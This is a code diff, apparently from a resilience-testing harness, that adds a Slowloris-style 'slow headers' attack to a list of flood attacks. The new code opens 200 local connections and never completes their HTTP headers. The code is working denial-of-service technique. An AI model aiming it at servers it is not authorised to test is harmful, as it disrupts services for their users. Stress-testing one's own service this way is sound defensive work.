@@ -71,6 +71,26 @@ async function trickle(victim: Victim): Promise<Sent[]> {
   return sent
 }
 
+async function slowHeads(victim: Victim): Promise<Sent[]> {
+  const sockets = Array.from({ length: 200 }, () => {
+    const socket = connect(victim.port, '127.0.0.1')
+    socket.on('error', () => {})
+    socket.write(`GET / HTTP/1.1\r\nhost: ${victim.host}\r\nx-a:`)
+    return socket
+  })
+  const late = pause(40_000).then((): Sent => ({ status: 0, bytes: 0, ms: 0 }))
+  const sent = await Promise.all(
+    sockets.map((socket) =>
+      Promise.race([
+        new Promise<Sent>((done) => socket.once('data', (piece: Buffer) => done(sentOf(piece)))),
+        late,
+      ]),
+    ),
+  )
+  for (const socket of sockets) socket.destroy()
+  return sent
+}
+
 function sentOf(piece: Buffer): Sent {
   return { status: Number(piece.toString('latin1', 9, 12)), bytes: piece.byteLength, ms: 0 }
 }
@@ -158,6 +178,7 @@ export const FLOODS: readonly Attack[] = [
     run: (victim) => holdUnread(victim, 100, 50),
   },
   { name: 'slow bodies: 200 forms, a byte a second', run: trickle },
+  { name: 'slow headers: 200 connections that never end theirs', run: slowHeads },
   {
     name: 'PDFs of 60 vehicles at once',
     run: async (victim) =>
